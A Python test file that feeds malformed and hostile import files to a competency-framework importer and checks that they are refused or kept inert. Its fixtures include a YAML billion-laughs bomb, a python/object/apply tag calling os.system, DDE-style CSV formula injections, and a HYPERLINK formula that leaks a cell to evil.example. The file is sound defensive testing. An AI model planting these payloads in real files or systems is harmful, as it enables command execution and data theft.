"""Malformed files for every reader (``graph.transfer.read``): JSON, YAML, CASE and the CSV folder — truncated,
in the wrong encoding (latin-1, UTF-16), with a 5 MB cell, binary garbage, empty, a YAML alias bomb, formula
cells. Each is refused with :class:`BadInput` whose message or problems name the file and the problem; formula
cells are plain text (kept as they are, never evaluated), and a CSV export must not hand them to a
spreadsheet as formulas.

``MALFORMED`` is the catalogue; ``tests/server/test_malformed_imports.py`` sends the same files through
``trellis import`` and the HTTP import.
"""

from __future__ import annotations

import csv
import json
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from graph import transfer
from graph.document import from_document
from graph.errors import BadInput
from graph.formats import case
from graph.formats.csvsheets import write_folder

from ..conftest import tiny_document

BIG = 5 * 1024 * 1024
GARBAGE = bytes(range(256)) * 64 + b"\x00\xff\xfe" * 1000
FRAMEWORK_CSV = b"key,value\nid,tiny\nname,Tiny\n"


def _json(doc: object) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def _tiny_json() -> str:
    return json.dumps(tiny_document(), ensure_ascii=False)


def _tiny_yaml() -> str:
    return yaml.safe_dump(tiny_document(), allow_unicode=True, sort_keys=False)


def _tiny_flow_yaml() -> str:
    return yaml.safe_dump(tiny_document(), default_flow_style=True, width=80)


def _tiny_case() -> str:
    return json.dumps(case.to_case(from_document(tiny_document())), ensure_ascii=False)


def _with_accents(text: str) -> str:
    return text.replace("Alpha", "Café Ålpha")


def _huge_name(doc_text: str) -> str:
    return doc_text.replace("Alpha", "x" * BIG, 1)


def _yaml_bomb() -> bytes:
    """Billion laughs: nine levels of nine aliases (9**9 'lol' if expanded), under competencies and in a name."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, cur in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{cur}: &{cur} [" + ",".join([f"*{prev}"] * 9) + "]")
    lines += ["framework: {id: tiny, name: *i}", "competencies: *i", "roles: [{id: r, title: *i, requires: *i}]"]
    return ("\n".join(lines) + "\n").encode()


@dataclass(frozen=True)
class Malformed:
    """One bad upload: its files (several, or any .csv: a CSV folder), the format named (None: guessed), words
    the refusal must hold (the file's name where the problem is the file's, a document path or a sheet, line and
    column where it is a value's)."""

    label: str
    files: dict[str, bytes]
    fmt: str | None = None
    words: tuple[str, ...] = ()

    @property
    def folder(self) -> bool:
        return len(self.files) > 1 or any(n.endswith(".csv") for n in self.files)

    def write(self, where: Path) -> Path:
        """The files under ``where``; the path to import (the folder, or the one file)."""
        where.mkdir(parents=True, exist_ok=True)
        for name, data in self.files.items():
            (where / name).write_bytes(data)
        return where if self.folder else where / next(iter(self.files))

    def param(self) -> object:
        """For ``pytest.mark.parametrize``, named by its label."""
        return pytest.param(self, id=self.label)


def _csv(**sheets: bytes) -> dict[str, bytes]:
    return {"framework.csv": FRAMEWORK_CSV, **{f"{k}.csv": v for k, v in sheets.items()}}


MALFORMED: list[Malformed] = [
    # --- JSON
    Malformed("json-truncated", {"org.json": _tiny_json()[:700].encode()}, None,
              ("org.json: not valid JSON", "line 1 column")),
    Malformed("json-empty", {"org.json": b""}, None, ("org.json: not valid JSON", "line 1 column 1")),
    Malformed("json-whitespace-only", {"org.json": b"  \n\t\n"}, None, ("org.json: not valid JSON",)),
    Malformed("json-huge-cell", {"org.json": _huge_name(_tiny_json()).encode()}, None,
              ("competencies[0].name", "5,242,880 characters long; at most 500")),
    Malformed("json-latin1", {"org.json": _with_accents(_tiny_json()).encode("latin-1")}, None,
              ("org.json", "UTF-8")),
    Malformed("json-latin1-format-named", {"org.json": _with_accents(_tiny_json()).encode("latin-1")}, "json",
              ("org.json", "UTF-8")),
    Malformed("json-utf16", {"org.json": _tiny_json().encode("utf-16")}, None, ("org.json", "UTF-8")),
    Malformed("json-binary-garbage", {"org.json": GARBAGE}, None, ("org.json",)),
    Malformed("json-nul-garbage", {"org.json": b"\x00\x01\x02\x03{}"}, None, ("org.json: not valid JSON",)),
    Malformed("json-not-an-object", {"org.json": b'"just a string"'}, None, ("a JSON object, not a str",)),
    Malformed("json-nesting-bomb", {"org.json": b"[" * 100_000 + b"]" * 100_000}, None, ("org.json",)),
    # --- YAML
    Malformed("yaml-truncated", {"org.yaml": _tiny_flow_yaml()[:900].encode()}, None, ("org.yaml: not valid YAML",)),
    Malformed("yaml-empty", {"org.yaml": b""}, None, ("holds nothing to import",)),
    Malformed("yaml-huge-cell", {"org.yaml": _huge_name(_tiny_yaml()).encode()}, None,
              ("competencies[0].name", "characters long; at most 500")),
    Malformed("yaml-latin1", {"org.yaml": _with_accents(_tiny_yaml()).encode("latin-1")}, None,
              ("org.yaml", "UTF-8")),
    Malformed("yaml-utf16", {"org.yaml": _tiny_yaml().encode("utf-16")}, None, ("org.yaml", "UTF-8")),
    Malformed("yaml-binary-garbage", {"org.yaml": GARBAGE}, None, ("org.yaml",)),
    Malformed("yaml-a-list", {"org.yaml": b"- framework\n- roles\n"}, None, ("a JSON object, not a list",)),
    Malformed("yaml-python-tag", {"org.yaml": b"framework: !!python/object/apply:os.system ['echo pwned']\n"}, None,
              ("org.yaml: not valid YAML", "python/object/apply")),
    Malformed("yaml-alias-bomb", {"org.yaml": _yaml_bomb()}, None, ("unknown field",)),
    # --- CASE
    Malformed("case-truncated", {"case.json": _tiny_case()[:900].encode()}, None, ("case.json: not valid JSON",)),
    Malformed("case-empty", {"case.json": b""}, "case", ("case.json: not valid JSON",)),
    Malformed("case-not-an-object", {"case.json": b"[1, 2]"}, "case", ("A CASE package must be a JSON object",)),
    Malformed("case-items-not-a-list", {"case.json": _json({**json.loads(_tiny_case()), "CFItems": "x"})}, None,
              ("CFItems",)),
    Malformed("case-huge-cell", {"case.json": _tiny_case().replace('"Alpha"', json.dumps("x" * BIG), 1).encode()},
              None, ("characters long",)),
    Malformed("case-latin1", {"case.json": _with_accents(_tiny_case()).encode("latin-1")}, None,
              ("case.json", "UTF-8")),
    Malformed("case-utf16", {"case.json": _tiny_case().encode("utf-16")}, "case", ("case.json", "UTF-8")),
    Malformed("case-binary-garbage", {"case.json": GARBAGE}, "case", ("case.json",)),
    # --- the CSV folder
    Malformed("csv-truncated-quote", _csv(competencies=b'id,name,category\nsql,"SQL and the rest'), None,
              ("competencies.csv line 2",)),
    Malformed("csv-truncated-row", _csv(competencies=b"id,name,category\nsql,SQL,TECHNICAL\nbad,Bad"), None,
              ("competencies.csv line 3, column category: is required",)),
    Malformed("csv-empty-file", _csv(competencies=b""), None,
              ("competencies.csv line 1: the first line must be a header",)),
    Malformed("csv-empty-framework", {"framework.csv": b""}, None,
              ("framework.csv line 1: the first line must be a header",)),
    Malformed("csv-latin1", _csv(competencies="id,name,category\nsql,Café,TECHNICAL\n".encode("latin-1")), None,
              ("competencies.csv: is not UTF-8 text",)),
    Malformed("csv-utf16", {"framework.csv": FRAMEWORK_CSV.decode().encode("utf-16")}, None,
              ("framework.csv: is not UTF-8 text",)),
    Malformed("csv-huge-cell", _csv(competencies=b"id,name,category\nsql," + b"x" * BIG + b",TECHNICAL\n"), None,
              ("competencies.csv line 2: is not valid CSV: field larger than field limit",)),
    Malformed("csv-huge-quoted-cell", _csv(indicators=b'competency,level,text\nsql,1,"' + b"y" * BIG + b'"\n'),
              None, ("indicators.csv line 2: is not valid CSV",)),
    Malformed("csv-binary-garbage", {"framework.csv": GARBAGE}, None, ("framework.csv: is not UTF-8 text",)),
    Malformed("csv-garbage-second-sheet", _csv(roles=GARBAGE), None, ("roles.csv: is not UTF-8 text",)),
    Malformed("csv-unknown-file", _csv(**{"evil": b"=cmd|' /C calc'!A0\n"}), None, ("evil.csv: unknown file",)),
    Malformed("csv-formula-in-a-level", _csv(competencies=b"id,name,category\nsql,SQL,TECHNICAL\n",
                                             roles=b"id,title\nr,R\n", requirements=b'role,sql\nr,"=1+2"\n'), None,
              ("requirements.csv line 2, column sql",)),
]


@pytest.mark.parametrize("bad", [m.param() for m in MALFORMED])
def test_malformed_files_are_refused_naming_the_file_and_the_problem(bad: Malformed, tmp_path: Path) -> None:
    path = bad.write(tmp_path / bad.label)
    started = time.perf_counter()
    with pytest.raises(BadInput) as refused:
        transfer.read(path, bad.fmt)
    assert time.perf_counter() - started < 10          # a bomb is refused, not expanded
    said = refused.value.message + "\n" + "\n".join(refused.value.problems)
    for words in bad.words:
        assert words in said, (words, said[:2000])
    assert len(said) < 100_000, "the refusal quotes the 5 MB cell instead of naming it"


# --- formula cells: text on the way in, not a formula on the way out ------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+2", "\t=1+2", "\r=1+2"]


def _formula_org() -> dict[str, object]:
    doc = tiny_document()
    comps = doc["competencies"]
    assert isinstance(comps, list)
    for n, text in enumerate(FORMULAS[:4]):
        comps[n]["name"] = text
        comps[n]["description"] = FORMULAS[(n + 4) % len(FORMULAS)]
    doc["roles"][0]["title"] = FORMULAS[0]                  # type: ignore[index]
    doc["people"][0]["name"] = FORMULAS[1]                  # type: ignore[index]
    return doc


def test_formula_cells_are_imported_as_plain_text(tmp_path: Path) -> None:
    """In every format a formula-looking cell is read as the text it is: not evaluated, not altered, not lost."""
    doc = _formula_org()
    expected = from_document(doc)
    assert [c.name for c in expected.competencies.values()][:4] == FORMULAS[:4]
    (tmp_path / "org.json").write_text(json.dumps(doc), encoding="utf-8")
    (tmp_path / "org.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    write_folder(expected, tmp_path / "csv")
    for path in (tmp_path / "org.json", tmp_path / "org.yaml", tmp_path / "csv"):
        assert transfer.read(path).org == expected, path
    # Hand-written, as a spreadsheet saves them: quoted, with the formula's own quotes doubled.
    folder = tmp_path / "hand"
    folder.mkdir()
    (folder / "framework.csv").write_bytes(FRAMEWORK_CSV)
    (folder / "competencies.csv").write_text(
        'id,name,category,description\nsql,"=HYPERLINK(""http://evil.example"",""x"")",TECHNICAL,+cmd|\' /C calc\'!A0\n'
        "talk,@SUM(1+1),BEHAVIOURAL,-2+3\n", encoding="utf-8")
    org = transfer.read(folder).org
    assert (org.competencies["sql"].name, org.competencies["sql"].description) == (
        '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0")
    assert (org.competencies["talk"].name, org.competencies["talk"].description) == ("@SUM(1+1)", "-2+3")


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    write_folder(from_document(_formula_org()), tmp_path / "csv")
    dangerous = []
    for sheet in sorted((tmp_path / "csv").glob("*.csv")):
        with open(sheet, encoding="utf-8", newline="") as f:
            for line, row in enumerate(csv.reader(f), 1):
                dangerous += [(sheet.name, line, cell) for cell in row
                              if cell.lstrip("\t\r\n ")[:1] in ("=", "+", "-", "@") and cell in FORMULAS]
    assert not dangerous, dangerous
